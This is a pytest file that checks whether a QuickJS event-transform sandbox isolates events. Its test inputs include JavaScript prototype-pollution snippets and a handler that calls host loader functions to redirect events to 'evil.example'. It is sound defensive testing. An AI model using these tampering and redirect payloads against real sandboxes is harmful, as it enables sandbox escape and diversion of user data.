"""Isolation between events on one runtime: what event 1 tampers with, event 2 sees pristine.

Every test runs two events through the same `Transform`, and so the same QuickJS runtime:
the first tampers (and must not break the sandbox, or the second would get a fresh runtime
and prove nothing), the second reports what it sees.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from dodo_transform.limits import Limits
from dodo_transform.transforms.engine import Outcome, OutcomeKind, Transform
from tests.conftest import event_from

FAST = Limits(time_seconds=0.3, memory_bytes=16 * 1024 * 1024, stack_bytes=256 * 1024)
TWO_EVENTS = """
function handler(w) {
  w.url = "https://api.segment.io/v1/track";
  if (w.eventType === "tamper") {
    try { %s } catch (e) {}
    w.payload = {userId: "u", event: "Tamper Done"};
    return w;
  }
  w.payload = {userId: "u", event: "Probe Seen", properties: {seen: (function () { %s })()}};
  return w;
}
"""


def runtime(transform: Transform) -> Any:
    """The QuickJS context that this thread's sandbox for `transform` holds now."""
    return transform._sandbox()._context


def seen_after_tampering(tamper: str, probe: str) -> Any:
    """What `probe` returns in event 2, after `tamper` ran in event 1 on the same runtime."""
    transform = Transform(
        name="t", source=TWO_EVENTS % (tamper, probe), filename="transforms/t.js", limits=FAST
    )
    before = runtime(transform)
    first = transform.run(event_from({"type": "tamper", "data": {}}))
    assert first.kind is OutcomeKind.DELIVER, first.error
    second = transform.run(event_from({"type": "probe", "data": {}}))
    assert runtime(transform) is before, "event 2 must run on event 1's runtime"
    assert second.kind is OutcomeKind.DELIVER, second.error
    return second.requests[0].payload["properties"]["seen"]


ITERATOR_PROTOTYPES = {
    "array": "[][Symbol.iterator]()",
    "map": "new Map([[1, 2]]).entries()",
    "set": "new Set([1]).values()",
    "string": "'ab'[Symbol.iterator]()",
    "regexp string": "'aa'.matchAll(/a/g)",
    "iterator helper": "[1].values().map((x) => x)",
    "wrapped iterator": "Iterator.from({next() { return {done: true}; }})",
}


@pytest.mark.parametrize("kind", sorted(ITERATOR_PROTOTYPES))
def test_iterator_prototypes_are_pristine_in_the_next_event(kind: str) -> None:
    make = ITERATOR_PROTOTYPES[kind]
    tamper = (
        f"const P = Object.getPrototypeOf({make}); P.leak = 1;"
        " P.next = function () { return {done: true}; };"
        " Object.getPrototypeOf(P).leak = 1;"  # %IteratorPrototype%
    )
    probe = (
        f"const it = {make};"
        " return ['leak' in it, typeof it.next(), [...[1, 2, 3]].length, [...'ab'].join('')];"
    )
    assert seen_after_tampering(tamper, probe) == [False, "object", 3, "ab"]


def test_for_of_and_spread_survive_a_replaced_array_iterator() -> None:
    tamper = (
        "const P = Object.getPrototypeOf([][Symbol.iterator]());"
        " P.next = function () { return {done: true}; };"
        " Object.defineProperty(P, 'next', {value: function () { return {done: true}; }});"
    )
    probe = (
        "let sum = 0; for (const x of [1, 2, 3]) sum += x;"
        " const [a, b] = [4, 5]; return [sum, [...new Set([1, 1, 2])], a + b];"
    )
    assert seen_after_tampering(tamper, probe) == [6, [1, 2], 9]


def test_generator_intrinsics_are_pristine_in_the_next_event() -> None:
    tamper = (
        "const GF = Object.getPrototypeOf(function* () {});"  # %GeneratorFunction.prototype%
        " GF.leak = 1; GF.constructor.leak = 1; GF.prototype.leak = 1;"
        " GF.prototype.next = function () { return {done: true}; };"
    )
    probe = (
        "function* two() { yield 1; yield 2; }"
        " const GF = Object.getPrototypeOf(two);"
        " return [[...two()], 'leak' in two, 'leak' in GF.constructor, 'leak' in two()];"
    )
    assert seen_after_tampering(tamper, probe) == [[1, 2], False, False, False]


def test_async_function_intrinsics_are_pristine_in_the_next_event() -> None:
    tamper = (
        "const AF = Object.getPrototypeOf(async function () {});"  # %AsyncFunction.prototype%
        " AF.leak = 1; AF.constructor.leak = 1;"
        " const AG = Object.getPrototypeOf(async function* () {});"
        " AG.leak = 1; AG.prototype.leak = 1; Object.getPrototypeOf(AG.prototype).leak = 1;"
    )
    probe = (
        "const af = async () => 1; const ag = (async function* () {})();"
        " return ['leak' in af, 'leak' in Object.getPrototypeOf(af).constructor,"
        " 'leak' in ag, af() instanceof Promise];"
    )
    assert seen_after_tampering(tamper, probe) == [False, False, False, True]


def test_typed_array_intrinsics_are_pristine_in_the_next_event() -> None:
    """%TypedArray% is also reachable from globalThis (Uint8Array inherits from it)."""
    tamper = (
        "const TA = Object.getPrototypeOf(Uint8Array);"  # %TypedArray%
        " TA.leak = 1; TA.prototype.leak = 1;"
        " TA.prototype.fill = function () { return this; };"
    )
    probe = (
        "const TA = Object.getPrototypeOf(Uint8Array);"
        " return ['leak' in TA, 'leak' in new Uint8Array(1), new Uint8Array(3).fill(7).join()];"
    )
    assert seen_after_tampering(tamper, probe) == [False, False, "7,7,7"]


def test_error_stack_hooks_are_pristine_in_the_next_event() -> None:
    tamper = (
        "try { Error.stackTraceLimit = 0; } catch (e) {}"
        " Error.prepareStackTrace = function () { return 'rewritten'; };"
    )
    probe = (
        "function inner() { return new Error('x').stack; }"
        " return [Error.stackTraceLimit, typeof Error.prepareStackTrace,"
        " inner().includes('at inner')];"
    )
    assert seen_after_tampering(tamper, probe) == [10, "undefined", True]


def test_a_strict_handler_that_sets_the_stack_hooks_fails_alone(payment: dict[str, Any]) -> None:
    """Under "use strict" the assignment is the handler's error (in sloppy code it is ignored,
    as V8 ignores writes to frozen objects); the runtime and the next event are unaffected."""
    transform = Transform(
        name="t",
        source="'use strict';\nfunction handler(w) {\n  if (w.eventType === 'payment.succeeded')"
        " { Error.stackTraceLimit = 50; Error.prepareStackTrace = (e, s) => s; }\n"
        "  w.url = 'https://api.segment.io/v1/track';"
        " w.payload = {userId: 'u', event: 'A B', properties: {stack: new Error('x').stack}};"
        " return w;\n}",
        filename="transforms/t.js",
        limits=FAST,
    )
    before = runtime(transform)
    failed = transform.run(event_from(payment))
    assert failed.kind is OutcomeKind.ERROR and not failed.hit_limit
    assert failed.error is not None and "transforms/t.js:3:" in failed.error
    assert "stackTraceLimit" in failed.error
    payment["type"] = "payment.failed"
    fine = transform.run(event_from(payment))
    assert runtime(transform) is before
    assert fine.kind is OutcomeKind.DELIVER
    assert "at handler (" in fine.requests[0].payload["properties"]["stack"]


def test_host_entry_points_are_out_of_the_handlers_reach() -> None:
    tamper = "__dodo_load('function handler(w) { w.url = \"https://evil.example/\"; return w; }');"
    probe = (
        "return [typeof __dodo_load, typeof __dodo_run, typeof __dodo_logs,"
        " Object.getOwnPropertyNames(globalThis).filter((n) => n.startsWith('__dodo'))];"
    )
    assert seen_after_tampering(tamper, probe) == ["undefined", "undefined", "undefined", []]


def test_a_handler_cannot_reload_itself_through_the_host(payment: dict[str, Any]) -> None:
    transform = Transform(
        name="t",
        source="function handler(w) {\n"
        "  for (const name of ['__dodo_load', '__dodo_run']) {\n"
        '    try { globalThis[name](\'function handler(w) { w.url = "https://evil.example/";'
        " return w; }', '{\"type\": \"x\"}', '', '{}'); } catch (e) {}\n"
        "  }\n"
        "  w.url = 'https://api.segment.io/v1/track'; w.payload = {userId: 'u', event: 'A B'};"
        " return w;\n}",
        filename="transforms/t.js",
        limits=FAST,
    )
    before = runtime(transform)
    outcomes: list[Outcome] = [transform.run(event_from(payment)) for _ in range(2)]
    assert runtime(transform) is before
    assert [outcome.kind for outcome in outcomes] == [OutcomeKind.DELIVER] * 2
    assert {outcome.requests[0].url for outcome in outcomes} == {"https://api.segment.io/v1/track"}


# Objects only the engine hands out; their prototypes (and those prototypes' constructors)
# are intrinsics that no property path from globalThis reaches.
ENGINE_MADE = {
    "array iterator": "[][Symbol.iterator]()",
    "map iterator": "new Map().entries()",
    "set iterator": "new Set().values()",
    "string iterator": "''[Symbol.iterator]()",
    "regexp string iterator": "''.matchAll(/a/g)",
    "iterator helper": "[].values().map((x) => x)",
    "iterator concat": "Iterator.concat([])",
    "wrapped iterator": "Iterator.from({next() { return {done: true}; }})",
    # A generator's own prototype is its function's `prototype`; the intrinsic is above it.
    "generator": "(function* () {}).prototype",
    "generator function": "function* () {}",
    "async function": "async function () {}",
    "async arrow": "async () => {}",
    "async generator": "(async function* () {}).prototype",
    "async generator function": "async function* () {}",
    "bound function": "(function () {}).bind(null)",
    "arrow": "() => {}",
    "class": "class {}",
    "typed array": "new Float64Array(1)",
    "array buffer": "new ArrayBuffer(1)",
    "promise": "Promise.resolve()",
    "regexp": "/a/g",
    "error": "new RangeError('x')",
    "strict arguments": "(function () { 'use strict'; return arguments; })()",
    # An object inheriting from %ThrowTypeError%, so that the walk below starts at it.
    "throw type error": "Object.create(Object.getOwnPropertyDescriptor("
    "(function () { 'use strict'; return arguments; })(), 'callee').get)",
    "disposable stack": "new DisposableStack()",
    "weak ref": "new WeakRef({})",
    # What the web platform the prelude installs hands out.
    "url": "new URL('https://example.com/?a=1')",
    "search params": "new URL('https://example.com/?a=1').searchParams",
    "search params iterator": "new URLSearchParams('a=1').entries()",
    "date format": "new Intl.DateTimeFormat('en-US')",
    "bound date format": "new Intl.DateTimeFormat('en-US').format",
    "number format": "new Intl.NumberFormat('en-US')",
    "bound number format": "new Intl.NumberFormat('en-US').format",
    "format parts": "new Intl.NumberFormat('en-US').formatToParts(1)[0]",
    "text encoder": "new TextEncoder()",
    "text decoder": "new TextDecoder()",
    "encoded text": "new TextEncoder().encode('x')",
    "dom exception": "(() => { try { structuredClone(() => 1); } catch (e) { return e; } })()",
    "clone": "structuredClone(new Map([[1, new Set()]]))",
}


def test_every_intrinsic_a_handler_can_reach_is_frozen(payment: dict[str, Any]) -> None:
    made = ",\n".join(
        f"  {json.dumps(name)}: {expression}" for name, expression in ENGINE_MADE.items()
    )
    source = (
        "function handler(w) {\n const made = {\n" + made + "\n };\n"
        " const open = [];\n"
        " for (const [name, value] of Object.entries(made)) {\n"
        "  let item = Object.getPrototypeOf(value);\n"
        "  for (let depth = 1; item !== null; depth++, item = Object.getPrototypeOf(item)) {\n"
        "   const related = [item];\n"
        "   for (const key of Reflect.ownKeys(item)) {\n"
        "    const d = Object.getOwnPropertyDescriptor(item, key);\n"
        "    related.push(d.value, d.get, d.set);\n"
        "   }\n"
        "   for (const r of related) {\n"
        "    if ((typeof r === 'object' && r !== null || typeof r === 'function')"
        " && !Object.isFrozen(r)) open.push(name + ' at depth ' + depth);\n"
        "   }\n"
        "  }\n"
        " }\n"
        " w.url = 'https://api.segment.io/v1/track';\n"
        " w.payload = {userId: 'u', event: 'A B', properties: {open: [...new Set(open)]}};\n"
        " return w;\n}"
    )
    outcome = Transform(name="t", source=source, filename="t.js", limits=FAST).run(
        event_from(payment)
    )
    assert outcome.kind is OutcomeKind.DELIVER, outcome.error
    assert outcome.requests[0].payload["properties"]["open"] == []


WEB_PLATFORM_TAMPERING = (
    "Intl.DateTimeFormat.prototype.format = 1;",
    "Object.defineProperty(Intl.NumberFormat.prototype, 'format', {get() { return () => 'x'; }});",
    "Intl.leak = 1;",
    "URL.prototype.toString = () => 'x';",
    "URLSearchParams.prototype.get = () => 'x';",
    "Date.prototype.toLocaleDateString = () => 'x';",
    "Number.prototype.toLocaleString = () => 'x';",
    "TextEncoder.prototype.encode = () => 'x';",
    "Object.getPrototypeOf(new URLSearchParams('a=1').entries()).next = () => ({done: true});",
    "Object.getPrototypeOf(new Intl.NumberFormat().format).leak = 1;",
)


@pytest.mark.parametrize("tamper", WEB_PLATFORM_TAMPERING)
def test_the_web_platform_is_pristine_in_the_next_event(tamper: str) -> None:
    probe = (
        "const d = new Date(Date.UTC(2026, 8, 10));"
        " return [d.toLocaleDateString('en-US', {timeZone: 'UTC'}), (1234.5).toLocaleString(),"
        " new Intl.DateTimeFormat('en-US', {timeZone: 'UTC'}).format(d),"
        " new Intl.NumberFormat('en-US').format(2), 'leak' in Intl,"
        " String(new URL('https://e.com/a')), new URLSearchParams('a=1').get('a'),"
        " [...new URLSearchParams('b=2')].length, new TextEncoder().encode('x').length,"
        " 'leak' in (() => 1)];"
    )
    assert seen_after_tampering(tamper, probe) == [
        "9/10/2026",
        "1,234.5",
        "9/10/2026",
        "2",
        False,
        "https://e.com/a",
        "1",
        1,
        1,
        False,
    ]
